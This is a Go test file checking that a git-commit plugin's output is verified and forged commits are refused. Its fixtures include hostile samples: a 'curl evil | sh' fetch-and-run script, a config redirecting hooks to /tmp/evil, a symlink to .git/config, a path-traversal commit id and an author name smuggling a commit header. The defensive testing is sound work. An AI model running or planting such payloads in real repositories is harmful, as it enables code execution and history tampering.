package commit

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/go-git/go-git/v5/plumbing"

	"github.com/fluffy-waffle/fluffy/lib/uerr"
	"github.com/fluffy-waffle/fluffy/plugins/vcs"
)

// mergedRequest is a merge of three paths: a changed file, a new file in a
// new directory, and a deletion; the test writes them to the project the
// way host/merge would have.
func mergedRequest(t testing.TB, project string) Request {
	t.Helper()
	write(t, project, "src/a.go", "package src\n\nfunc A() int { return 1 }\n")
	write(t, project, "src/new/c.go", "package new\n")
	if err := os.Remove(filepath.Join(project, "README")); err != nil {
		t.Fatal(err)
	}
	return Request{Message: "fluffy: change A\n\nSession s1.", AuthorName: "fluffy", AuthorEmail: "fluffy@localhost", Files: []File{
		{Path: "src/a.go", Content: []byte("package src\n\nfunc A() int { return 1 }\n")},
		{Path: "src/new/c.go", Content: []byte("package new\n")},
		{Path: "README", Delete: true},
	}}
}

// userChanges leaves an unstaged and a staged change in files the merge
// does not touch.
func userChanges(t testing.TB, project string) {
	write(t, project, "other.txt", "other, edited by the user\n")
	write(t, project, "staged.txt", "staged by the user\n")
	gitc(t, project, "add", "staged.txt")
}

func TestApplyValidOutput(t *testing.T) {
	project := newRepo(t)
	head := gitc(t, project, "rev-parse", "HEAD")
	userChanges(t, project)
	req := mergedRequest(t, project)
	out := t.TempDir()
	id := buildOutput(t, project, out, req, forge{})
	res, err := Apply(context.Background(), project, filepath.Join(out, vcs.CommitDir, id), id, req)
	if err != nil {
		t.Fatal(err)
	}
	if res.Commit != id || res.Parent != head || res.Branch != "refs/heads/main" || res.Warning != "" || res.Skipped {
		t.Fatalf("result %+v", res)
	}
	checkLanded(t, project, id, head, "fluffy: change A", []string{"README", "src/a.go", "src/new/c.go"})
}

// checkLanded asserts with the git CLI that id is HEAD on main with the
// given parent and message, changes exactly paths, that the repository is
// sound, and that the user's own changes are still uncommitted.
func checkLanded(t *testing.T, project, id, parent, subject string, paths []string) {
	t.Helper()
	if got := gitc(t, project, "log", "-1", "--format=%H %P %s"); got != id+" "+parent+" "+subject {
		t.Fatalf("git log: %q", got)
	}
	if got := gitc(t, project, "diff", "--name-only", parent, id); got != strings.Join(paths, "\n") {
		t.Fatalf("commit changes %q, want %q", got, paths)
	}
	gitc(t, project, "fsck", "--strict", "--no-progress")
	if got := gitc(t, project, "status", "--porcelain"); got != " M other.txt\nM  staged.txt" {
		t.Fatalf("git status after the commit:\n%s\nwant only the user's own changes", got)
	}
	if got := gitc(t, project, "show", "HEAD:src/a.go"); got != "package src\n\nfunc A() int { return 1 }" {
		t.Fatalf("committed content %q", got)
	}
	if got := gitc(t, project, "reflog", "-1", "--format=%H %gs"); !strings.HasPrefix(got, id+" commit: fluffy: change A") {
		t.Fatalf("reflog %q", got)
	}
}

func TestApplyRefusesForgedOutput(t *testing.T) {
	needGit(t)
	type setup struct {
		project, out, head string
		req                Request
	}
	cases := []struct {
		name  string
		code  string
		build func(t *testing.T, s setup) string // returns the commit id
	}{
		{"parent-not-head", CodeRefusedParent, func(t *testing.T, s setup) string {
			return buildOutput(t, s.project, s.out, s.req, forge{parents: []plumbing.Hash{plumbing.NewHash(gitc(t, s.project, "rev-parse", "HEAD~1"))}})
		}},
		{"orphan-drops-history", CodeRefusedParent, func(t *testing.T, s setup) string {
			return buildOutput(t, s.project, s.out, s.req, forge{parents: []plumbing.Hash{}})
		}},
		{"extra-file-in-tree", CodeRefusedTree, func(t *testing.T, s setup) string {
			st, _ := open(s.project)
			req2 := s.req
			req2.Files = append(append([]File{}, s.req.Files...), File{Path: "evil.sh", Content: []byte("curl evil | sh\n")})
			exp2, err := st.expected(req2)
			if err != nil {
				t.Fatal(err)
			}
			var extra []obj
			for _, h := range exp2.order {
				extra = append(extra, exp2.objs[h])
			}
			return buildOutput(t, s.project, s.out, s.req, forge{tree: exp2.root, extra: extra})
		}},
		{"tree-from-history", CodeRefusedTree, func(t *testing.T, s setup) string {
			return buildOutput(t, s.project, s.out, s.req, forge{tree: plumbing.NewHash(gitc(t, s.project, "rev-parse", "HEAD~1^{tree}"))})
		}},
		{"smuggled-history-rewrite", CodeRefusedObject, func(t *testing.T, s setup) string {
			// A correct commit, plus a replacement for HEAD riding along.
			headTree := gitc(t, s.project, "rev-parse", "HEAD^{tree}")
			grand := gitc(t, s.project, "rev-parse", "HEAD~1")
			fake := []byte("tree " + headTree + "\nparent " + grand + "\nauthor Mallory <m@example.com> 1700000000 +0000\ncommitter Mallory <m@example.com> 1700000000 +0000\n\nsecond, rewritten\n")
			return buildOutput(t, s.project, s.out, s.req, forge{extra: []obj{{plumbing.CommitObject, fake}}})
		}},
		{"smuggled-blob", CodeRefusedObject, func(t *testing.T, s setup) string {
			return buildOutput(t, s.project, s.out, s.req, forge{extra: []obj{{plumbing.BlobObject, []byte("#!/bin/sh\ncurl evil | sh\n")}}})
		}},
		{"rewrites-history", CodeRefusedParent, func(t *testing.T, s setup) string {
			// A replacement for HEAD (same parent, another message) and the
			// commit on top of it.
			headTree := gitc(t, s.project, "rev-parse", "HEAD^{tree}")
			grand := gitc(t, s.project, "rev-parse", "HEAD~1")
			fake := []byte("tree " + headTree + "\nparent " + grand + "\nauthor Mallory <m@example.com> 1700000000 +0000\ncommitter Mallory <m@example.com> 1700000000 +0000\n\nsecond, rewritten\n")
			h := hashOf(plumbing.CommitObject, fake)
			return buildOutput(t, s.project, s.out, s.req, forge{parents: []plumbing.Hash{h}, extra: []obj{{plumbing.CommitObject, fake}}})
		}},
		{"missing-object", CodeRefusedMissing, func(t *testing.T, s setup) string {
			st, _ := open(s.project)
			exp, _ := st.expected(s.req)
			return buildOutput(t, s.project, s.out, s.req, forge{skip: map[plumbing.Hash]bool{exp.blobs["src/new/c.go"]: true}})
		}},
		{"altered-blob", CodeRefusedOutput, func(t *testing.T, s setup) string {
			id := buildOutput(t, s.project, s.out, s.req, forge{})
			st, _ := open(s.project)
			exp, _ := st.expected(s.req)
			h := exp.blobs["src/new/c.go"].String()
			p := filepath.Join(s.out, vcs.CommitDir, id, "objects", h[:2], h[2:])
			os.Remove(p)
			// Same name, other content.
			tmp := t.TempDir()
			got := writeObj(t, tmp, obj{plumbing.BlobObject, []byte("package new // with a backdoor\n")}).String()
			b, _ := os.ReadFile(filepath.Join(tmp, "objects", got[:2], got[2:]))
			os.WriteFile(p, b, 0o644)
			return id
		}},
		{"wrong-message", CodeRefusedMetadata, func(t *testing.T, s setup) string {
			return buildOutput(t, s.project, s.out, s.req, forge{message: "something else\n"})
		}},
		{"summary-lies", CodeRefusedParent, func(t *testing.T, s setup) string {
			return buildOutput(t, s.project, s.out, s.req, forge{summary: &vcs.CommitOutput{Commit: "x", Parent: "y", Branch: "refs/heads/main"}})
		}},
		{"git-config-in-output", CodeRefusedOutput, func(t *testing.T, s setup) string {
			id := buildOutput(t, s.project, s.out, s.req, forge{})
			write(t, filepath.Join(s.out, vcs.CommitDir, id), "config", "[core]\n\thooksPath = /tmp/evil\n")
			return id
		}},
		{"hook-in-output", CodeRefusedOutput, func(t *testing.T, s setup) string {
			id := buildOutput(t, s.project, s.out, s.req, forge{})
			write(t, filepath.Join(s.out, vcs.CommitDir, id), "hooks/pre-commit", "#!/bin/sh\n")
			return id
		}},
		{"symlink-object", CodeRefusedOutput, func(t *testing.T, s setup) string {
			id := buildOutput(t, s.project, s.out, s.req, forge{})
			d := filepath.Join(s.out, vcs.CommitDir, id, "objects", "ab")
			os.MkdirAll(d, 0o755)
			os.Symlink(filepath.Join(s.project, ".git", "config"), filepath.Join(d, strings.Repeat("c", 38)))
			return id
		}},
		{"not-a-commit-id", CodeRefusedCommitID, func(t *testing.T, s setup) string {
			buildOutput(t, s.project, s.out, s.req, forge{})
			return "../../../.git"
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			project := newRepo(t)
			userChanges(t, project)
			head := gitc(t, project, "rev-parse", "HEAD")
			config, _ := os.ReadFile(filepath.Join(project, ".git", "config"))
			index, _ := os.ReadFile(filepath.Join(project, ".git", "index"))
			s := setup{project: project, out: t.TempDir(), head: head, req: mergedRequest(t, project)}
			id := tc.build(t, s)
			_, err := Apply(context.Background(), project, filepath.Join(s.out, vcs.CommitDir, id), id, s.req)
			ue, ok := uerr.As(err)
			if !ok || ue.Code != tc.code {
				t.Fatalf("want a structured %s refusal, got %v", tc.code, err)
			}
			if ue.Fix == "" || ue.Why == "" {
				t.Fatalf("refusal without why/fix: %+v", ue)
			}
			if got := gitc(t, project, "rev-parse", "HEAD"); got != head {
				t.Fatalf("HEAD moved to %s", got)
			}
			if validID(id) {
				if err := exec.Command("git", "-C", project, "cat-file", "-e", id).Run(); err == nil {
					t.Fatalf("forged commit %s was written to the repository", id)
				}
			}
			if c, _ := os.ReadFile(filepath.Join(project, ".git", "config")); !bytes.Equal(c, config) {
				t.Fatal(".git/config changed")
			}
			if c, _ := os.ReadFile(filepath.Join(project, ".git", "index")); !bytes.Equal(c, index) {
				t.Fatal(".git/index changed")
			}
			if m, _ := filepath.Glob(filepath.Join(project, ".git", "hooks", "pre-commit")); len(m) != 0 {
				t.Fatal("a hook appeared")
			}
		})
	}
}

func TestNotARepositoryIsSkipped(t *testing.T) {
	project := t.TempDir()
	write(t, project, "src/a.go", "package src\n")
	req := Request{Message: "m", AuthorName: "a", AuthorEmail: "a@b", Files: []File{{Path: "src/a.go", Content: []byte("package src\n")}}}
	// No plugin is needed to learn there is no repository.
	res, err := Commit(context.Background(), nil, "vcs-git", project, req)
	if err != nil || !res.Skipped || res.Reason != NotRepoReason || res.Commit != "" {
		t.Fatalf("Commit: %+v, %v", res, err)
	}
	res, err = Apply(context.Background(), project, t.TempDir(), strings.Repeat("a", 40), req)
	if err != nil || !res.Skipped || res.Reason != "not a git repository: merge done, commit skipped" {
		t.Fatalf("Apply: %+v, %v", res, err)
	}
	if _, err := os.Stat(filepath.Join(project, ".git")); err == nil {
		t.Fatal("a repository was created")
	}
}

func TestDetachedHeadIsAnError(t *testing.T) {
	project := newRepo(t)
	gitc(t, project, "checkout", "-q", "--detach", "HEAD~1")
	req := mergedRequest(t, project)
	_, err := Commit(context.Background(), nil, "vcs-git", project, req)
	if !uerr.HasCode(err, CodeDetached) {
		t.Fatalf("want %s, got %v", CodeDetached, err)
	}
}

func TestBadRequests(t *testing.T) {
	project := newRepo(t)
	ok := Request{Message: "m", AuthorName: "a", AuthorEmail: "a@b"}
	for _, tc := range []struct {
		name string
		req  Request
	}{
		{"git-config", Request{Message: "m", AuthorName: "a", AuthorEmail: "a@b", Files: []File{{Path: ".git/config", Content: []byte("x")}}}},
		{"git-hook", Request{Message: "m", AuthorName: "a", AuthorEmail: "a@b", Files: []File{{Path: ".git/hooks/pre-commit", Content: []byte("x")}}}},
		{"nested-git", Request{Message: "m", AuthorName: "a", AuthorEmail: "a@b", Files: []File{{Path: "vendor/x/.GIT/config", Content: []byte("x")}}}},
		{"kernel-dir", Request{Message: "m", AuthorName: "a", AuthorEmail: "a@b", Files: []File{{Path: ".fluffy/db", Content: []byte("x")}}}},
		{"escape", Request{Message: "m", AuthorName: "a", AuthorEmail: "a@b", Files: []File{{Path: "../x", Content: []byte("x")}}}},
		{"empty", ok},
		{"author-injection", Request{Message: "m", AuthorName: "a>\nparent 0000", AuthorEmail: "a@b", Files: []File{{Path: "x", Content: []byte("x")}}}},
		{"through-a-file", Request{Message: "m", AuthorName: "a", AuthorEmail: "a@b", Files: []File{{Path: "README/x", Content: []byte("x")}}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Commit(context.Background(), nil, "vcs-git", project, tc.req)
			if _, isU := uerr.As(err); !isU {
				t.Fatalf("want a structured error, got %v", err)
			}
		})
	}
}

func TestRefLockIsRespected(t *testing.T) {
	project := newRepo(t)
	req := mergedRequest(t, project)
	out := t.TempDir()
	id := buildOutput(t, project, out, req, forge{})
	lock := filepath.Join(project, ".git", "refs", "heads", "main.lock")
	write(t, project, ".git/refs/heads/main.lock", "")
	_, err := Apply(context.Background(), project, filepath.Join(out, vcs.CommitDir, id), id, req)
	if !uerr.HasCode(err, CodeRefLocked) {
		t.Fatalf("want %s, got %v", CodeRefLocked, err)
	}
	if _, err := os.Stat(lock); err != nil {
		t.Fatal("someone else's lock was removed")
	}
}

func TestFirstCommitOnUnbornBranch(t *testing.T) {
	needGit(t)
	project := t.TempDir()
	gitc(t, project, "init", "-q", "-b", "trunk")
	write(t, project, "src/x.go", "package x\n")
	req := Request{Message: "first", AuthorName: "fluffy", AuthorEmail: "f@l", Files: []File{{Path: "src/x.go", Content: []byte("package x\n")}}}
	out := t.TempDir()
	id := buildOutput(t, project, out, req, forge{})
	res, err := Apply(context.Background(), project, filepath.Join(out, vcs.CommitDir, id), id, req)
	if err != nil || res.Parent != "" || res.Branch != "refs/heads/trunk" {
		t.Fatalf("%+v %v", res, err)
	}
	if got := gitc(t, project, "log", "--format=%H %P|%s"); got != id+" |first" {
		t.Fatalf("log %q", got)
	}
	if got := gitc(t, project, "status", "--porcelain"); got != "" {
		t.Fatalf("status %q", got)
	}
}

// TestFilteredPathsAreNotCommitted: a path git would pass through a
// filter (Git LFS) is refused before the plugin runs; others commit.
func TestFilteredPathsAreNotCommitted(t *testing.T) {
	project := newRepo(t)
	write(t, project, ".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n")
	write(t, project, ".git/info/attributes", "secret/** filter=crypt\n")
	gitc(t, project, "add", ".gitattributes")
	gitc(t, project, "commit", "-q", "-m", "lfs")
	for _, p := range []string{"assets/model.bin", "secret/x.txt"} {
		req := Request{Message: "m", AuthorName: "a", AuthorEmail: "a@b", Files: []File{{Path: p, Content: []byte("big")}}}
		if _, err := Commit(context.Background(), nil, "vcs-git", project, req); !uerr.HasCode(err, CodeUnsupported) {
			t.Fatalf("%s: want %s, got %v", p, CodeUnsupported, err)
		}
	}
	st, _ := open(project)
	if _, err := st.expected(Request{Message: "m", AuthorName: "a", AuthorEmail: "a@b", Files: []File{{Path: "assets/model.txt", Content: []byte("x")}}}); err != nil {
		t.Fatalf("unfiltered path: %v", err)
	}
}

// TestLinkedWorktree: a project that is a `git worktree add` checkout
// (.git is a file; refs and objects live in the main repository).
func TestLinkedWorktree(t *testing.T) {
	main := newRepo(t)
	project := filepath.Join(t.TempDir(), "wt")
	gitc(t, main, "worktree", "add", "-q", "-b", "feature", project)
	head := gitc(t, project, "rev-parse", "HEAD")
	write(t, project, "src/a.go", "package src // feature\n")
	req := Request{Message: "feature work", AuthorName: "fluffy", AuthorEmail: "f@l", Files: []File{{Path: "src/a.go", Content: []byte("package src // feature\n")}}}
	out := t.TempDir()
	id := buildOutput(t, project, out, req, forge{})
	res, err := Apply(context.Background(), project, filepath.Join(out, vcs.CommitDir, id), id, req)
	if err != nil || res.Branch != "refs/heads/feature" || res.Parent != head {
		t.Fatalf("%+v %v", res, err)
	}
	if got := gitc(t, main, "rev-parse", "feature"); got != id {
		t.Fatalf("feature is at %s, want %s", got, id)
	}
	if got := gitc(t, main, "rev-parse", "main"); got != head {
		t.Fatal("main moved")
	}
	if got := gitc(t, project, "status", "--porcelain"); got != "" {
		t.Fatalf("worktree status %q", got)
	}
	gitc(t, main, "fsck", "--strict", "--no-progress")
}

// TestLandedKnowsAnAppliedCommit: before the commit of a request is
// applied Landed says no; once the ref moved (a kernel killed right
// after) it says HEAD is that commit, so a recovery does not commit twice.
func TestLandedKnowsAnAppliedCommit(t *testing.T) {
	project := newRepo(t)
	req := mergedRequest(t, project)
	if id, ok, err := Landed(project, req); err != nil || ok {
		t.Fatalf("before the commit: Landed = %q, %v, %v", id, ok, err)
	}
	out := t.TempDir()
	id := buildOutput(t, project, out, req, forge{})
	if _, err := Apply(context.Background(), project, filepath.Join(out, vcs.CommitDir, id), id, req); err != nil {
		t.Fatal(err)
	}
	if got, ok, err := Landed(project, req); err != nil || !ok || got != id {
		t.Fatalf("after the commit: Landed = %q, %v, %v; want %s", got, ok, err, id)
	}
	other := req
	other.Message = "another change"
	if _, ok, _ := Landed(project, other); ok {
		t.Fatal("a commit with another message counts as landed")
	}
}
